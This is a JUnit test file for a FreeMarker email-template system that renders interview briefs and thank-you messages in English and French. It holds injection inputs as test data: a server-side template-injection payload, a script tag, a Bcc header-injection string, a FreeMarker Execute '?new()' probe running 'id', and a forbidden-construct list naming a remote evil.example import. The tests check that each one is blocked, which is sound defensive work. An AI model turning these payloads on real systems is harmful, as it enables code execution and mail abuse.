package org.rebond.compose;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileVisitOption;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The Freemarker set-up: safe configuration, overrides, error messages, forbidden constructs (B30, B31). */
@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class TemplatesTest {

    static final Path BUNDLED = Path.of("templates");
    static final List<String> MESSAGES = List.of("brief", "debrief-prompt", "thank-you", "keep-posted", "brief-update");
    static final List<Locale> LANGUAGES = List.of(Locale.ENGLISH, Locale.FRENCH);

    private final Templates templates = new Templates(null, BUNDLED);

    static Stream<Arguments> every_message_in_every_language() {
        List<Arguments> all = new ArrayList<>();
        for (String message : MESSAGES) {
            for (Locale language : LANGUAGES) {
                all.add(Arguments.of(message, language));
            }
        }
        return all.stream();
    }

    @ParameterizedTest(name = "{0} in {1}")
    @MethodSource("every_message_in_every_language")
    void every_message_renders_with_a_full_model(String message, Locale language) {
        RenderedMessage rendered = templates.render(message, language, SampleModels.full());

        assertThat(rendered.subject()).isNotBlank().doesNotContain("\n", "\r");
        assertThat(rendered.text()).contains("Jane").doesNotContain("<p>", "<li>", "<br>", "<p ");
        assertThat(rendered.html()).startsWith("<!DOCTYPE html>").contains("<html lang=\"" + language.getLanguage() + "\">")
                .doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<img");
    }

    @ParameterizedTest(name = "{0} in {1}")
    @MethodSource("every_message_in_every_language")
    void every_message_renders_with_a_minimal_model(String message, Locale language) {
        RenderedMessage rendered = templates.render(message, language, SampleModels.minimal());

        assertThat(rendered.subject()).isNotBlank();
        assertThat(rendered.text()).contains("Jane Roe");
        assertThat(rendered.html()).contains("Jane Roe");
    }

    @ParameterizedTest(name = "{0} in {1}")
    @MethodSource("every_message_in_every_language")
    void every_message_renders_even_with_an_empty_model(String message, Locale language) {
        RenderedMessage rendered = templates.render(message, language, Map.of());

        assertThat(rendered.text()).isNotBlank();
        assertThat(rendered.html()).isNotBlank();
    }

    @ParameterizedTest(name = "{0} in {1}")
    @MethodSource("every_message_in_every_language")
    void template_syntax_in_the_data_comes_out_literally_and_html_escaped(String message, Locale language) {
        Map<String, Object> model = SampleModels.full();
        for (String path : List.of("contact.name", "contact.title", "interview.summary", "interview.location",
                "user.objective", "user.objectiveSentence", "user.pitch", "user.signature", "notes.article", "referrer.name",
                "referrer.line")) {
            model = SampleModels.with(model, path, SampleModels.PAYLOAD);
        }
        model = SampleModels.with(model, "notes.points", List.of(SampleModels.PAYLOAD));
        model = SampleModels.with(model, "user.questions", List.of(SampleModels.PAYLOAD));
        model = SampleModels.with(model, "keywords", List.of(SampleModels.PAYLOAD));
        model = SampleModels.with(model, "vocabulary", SampleModels.map("enough", true,
                "terms", List.of(SampleModels.map("term", SampleModels.PAYLOAD, "context", SampleModels.PAYLOAD))));

        RenderedMessage typeset = templates.render(message, language, model);
        // French spacing puts a no-break space before "?": the payload is compared as words.
        RenderedMessage rendered = new RenderedMessage(typeset.subject(), typeset.text().replace('\u00a0', ' '),
                typeset.html().replace('\u00a0', ' '));

        assertThat(rendered.text()).contains(SampleModels.PAYLOAD).doesNotContain("49 ");
        assertThat(rendered.html())
                .contains("${7*7} &lt;#assign x=1&gt; &lt;script&gt;alert(1)&lt;/script&gt; ?new() [#assign y=2]")
                .doesNotContain("<script>", "<#assign");
    }

    @Test
    void a_subject_is_always_one_line() {
        Map<String, Object> model = SampleModels.with(SampleModels.full(), "contact.name", "Jane\r\nBcc: victim@example.com\n");

        RenderedMessage rendered = templates.render("debrief-prompt", Locale.ENGLISH, model);

        assertThat(rendered.subject()).doesNotContain("\r", "\n").startsWith("How did it go with Jane Bcc:");
    }

    @Test
    void a_language_other_than_english_or_french_falls_back_to_english() {
        RenderedMessage german = templates.render("thank-you", Locale.GERMAN, SampleModels.full());
        RenderedMessage english = templates.render("thank-you", Locale.ENGLISH, SampleModels.full());

        assertThat(german).isEqualTo(english);
        assertThat(templates.render("thank-you", null, SampleModels.full())).isEqualTo(english);
    }

    @Test
    void a_model_value_that_is_not_a_plain_value_is_refused_rather_than_exposed() {
        Map<String, Object> model = SampleModels.with(SampleModels.full(), "contact.name", new StringBuilder("x").append((Object) null));
        Map<String, Object> withObject = SampleModels.with(SampleModels.full(), "contact.name", Thread.currentThread());

        assertThat(templates.render("brief", Locale.ENGLISH, model).text()).contains("xnull");
        assertThatThrownBy(() -> templates.render("brief", Locale.ENGLISH, withObject))
                .isInstanceOf(TemplateProblem.class)
                .hasMessageContaining("plain values");
    }

    @Test
    void a_user_override_replaces_that_one_file_only(@TempDir Path userDirectory) throws IOException {
        write(userDirectory.resolve("en/brief.subject.ftl"), "My own prep note for ${contact.name}");
        Templates withOverride = new Templates(userDirectory, BUNDLED);

        RenderedMessage overridden = withOverride.render("brief", Locale.ENGLISH, SampleModels.full());
        RenderedMessage bundled = templates.render("brief", Locale.ENGLISH, SampleModels.full());

        assertThat(overridden.subject()).isEqualTo("My own prep note for Jane Roe");
        assertThat(overridden.text()).isEqualTo(bundled.text());
        assertThat(overridden.html()).isEqualTo(bundled.html());
        assertThat(withOverride.render("brief", Locale.FRENCH, SampleModels.full()).subject()).contains("préparation de votre");
    }

    @Test
    void a_broken_override_is_reported_with_its_file_and_line_and_what_to_do(@TempDir Path userDirectory) throws IOException {
        Path broken = userDirectory.resolve("fr/brief.ftlh");
        write(broken, "<p>Bonjour</p>\n<p>Avec ${contact.name}</p>\n<#if contact.senior>\n<p>Attention</p>\n");
        Templates withOverride = new Templates(userDirectory, BUNDLED);

        assertThatThrownBy(() -> withOverride.render("brief", Locale.FRENCH, SampleModels.full()))
                .isInstanceOf(TemplateProblem.class)
                .hasMessageStartingWith(broken + " line ")
                .hasMessageContaining("fix the template or remove the override in " + userDirectory)
                .satisfies(e -> assertThat(((TemplateProblem) e).file()).isEqualTo(broken.toString()));
    }

    @Test
    void an_override_using_a_missing_variable_is_reported_with_its_line(@TempDir Path userDirectory) throws IOException {
        Path override = userDirectory.resolve("en/thank-you.ftl");
        write(override, "Dear ${contact.name},\n\nThanks!\n${user.nickname}\n");
        Templates withOverride = new Templates(userDirectory, BUNDLED);

        assertThatThrownBy(() -> withOverride.render("thank-you", Locale.ENGLISH, SampleModels.full()))
                .isInstanceOf(TemplateProblem.class)
                .hasMessageStartingWith(override + " line 4: ")
                .hasMessageContaining("user.nickname")
                .hasMessageContaining("remove the override in " + userDirectory)
                .satisfies(e -> assertThat(((TemplateProblem) e).line()).isEqualTo(4));
    }

    @Test
    void an_override_using_a_forbidden_construct_is_refused(@TempDir Path userDirectory) throws IOException {
        Path override = userDirectory.resolve("en/keep-posted.ftl");
        write(override, "Hello\n${contact.name?interpret}\n");
        Templates withOverride = new Templates(userDirectory, BUNDLED);

        assertThatThrownBy(() -> withOverride.render("keep-posted", Locale.ENGLISH, SampleModels.full()))
                .isInstanceOf(TemplateProblem.class)
                .hasMessageContaining(override + " line 2: ?interpret is not allowed");
    }

    @Test
    void the_new_builtin_cannot_instantiate_anything_even_in_a_template() throws IOException {
        // Even if a forbidden construct slipped past the check, the configuration stops it.
        Path directory = Files.createTempDirectory("rebond-templates");
        try {
            write(directory.resolve("en/probe.subject.ftl"), "s");
            write(directory.resolve("en/probe.ftl"), "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}");
            write(directory.resolve("en/probe.ftlh"), "h");
            Templates probe = new Templates(null, directory);

            assertThatThrownBy(() -> probe.render("probe", Locale.ENGLISH, Map.of()))
                    .isInstanceOf(TemplateProblem.class)
                    .hasMessageContaining("probe.ftl line 1");
        } finally {
            try (Stream<Path> files = Files.walk(directory)) {
                files.sorted((a, b) -> b.getNameCount() - a.getNameCount()).forEach(path -> path.toFile().delete());
            }
        }
    }

    @Test
    void a_missing_template_names_the_file() {
        assertThatThrownBy(() -> templates.render("no-such-message", Locale.ENGLISH, Map.of()))
                .isInstanceOf(TemplateProblem.class)
                .hasMessageContaining("no-such-message.subject.ftl")
                .hasMessageContaining("not found");
    }

    @Test
    void forbidden_constructs_are_each_found_in_a_crafted_template() {
        String crafted = String.join("\n",
                "${x?interpret}",
                "<#assign y = data?eval>",
                "${json?eval_json}",
                "<#assign e = \"freemarker.template.utility.Execute\"?new()>",
                "${object?api.getClass()}",
                "<#import \"https://evil.example/lib.ftl\" as lib>",
                "[#import \"file:///etc/lib.ftl\" as other]",
                "${html?no_esc}",
                "<#noautoesc>${raw}</#noautoesc>",
                "${y?evalJson}");

        List<String> findings = templates.forbiddenConstructs(crafted);

        assertThat(findings).containsExactly(
                "line 1: ?interpret", "line 2: ?eval", "line 3: ?eval_json", "line 4: ?new", "line 5: ?api",
                "line 6: #import of a URL", "line 7: #import of a URL", "line 8: ?no_esc", "line 9: #noautoesc",
                "line 10: ?evalJson");
    }

    @Test
    void ordinary_template_code_is_not_taken_for_a_forbidden_construct() {
        String fine = "<#import \"lib/common.ftl\" as c>${user.name!\"\"} ${x?has_content?then(\"a\", \"b\")} ${n?c}"
                + " Who else? New ideas ${list?size} ${s?html}";

        assertThat(templates.forbiddenConstructs(fine)).isEmpty();
    }

    @Test
    void no_bundled_template_contains_a_forbidden_construct() throws IOException {
        List<Path> files;
        try (Stream<Path> walk = Files.walk(BUNDLED, FileVisitOption.FOLLOW_LINKS)) {
            files = walk.filter(Files::isRegularFile).sorted().toList();
        }

        assertThat(files).hasSize(MESSAGES.size() * LANGUAGES.size() * 3);
        for (Path file : files) {
            assertThat(templates.forbiddenConstructs(Files.readString(file, StandardCharsets.UTF_8)))
                    .as(file.toString()).isEmpty();
        }
    }

    @Test
    void every_bundled_message_has_its_three_files_in_both_languages() {
        for (Locale language : LANGUAGES) {
            for (String message : MESSAGES) {
                for (String suffix : List.of(".subject.ftl", ".ftl", ".ftlh")) {
                    assertThat(BUNDLED.resolve(language.getLanguage()).resolve(message + suffix)).isRegularFile();
                }
            }
        }
    }

    @Test
    void templates_load_from_the_classpath_once_packaged() {
        assumeTrue(Templates.class.getResource("/templates/en/brief.ftl") != null,
                "templates are not on the classpath yet (the pom maps templates/ to /templates)");

        RenderedMessage rendered = new Templates(null, null).render("brief", Locale.FRENCH, SampleModels.full());

        assertThat(rendered.text()).contains("Jane Roe");
    }

    static void write(Path file, String content) throws IOException {
        Files.createDirectories(file.getParent());
        Files.writeString(file, content, StandardCharsets.UTF_8);
    }
}
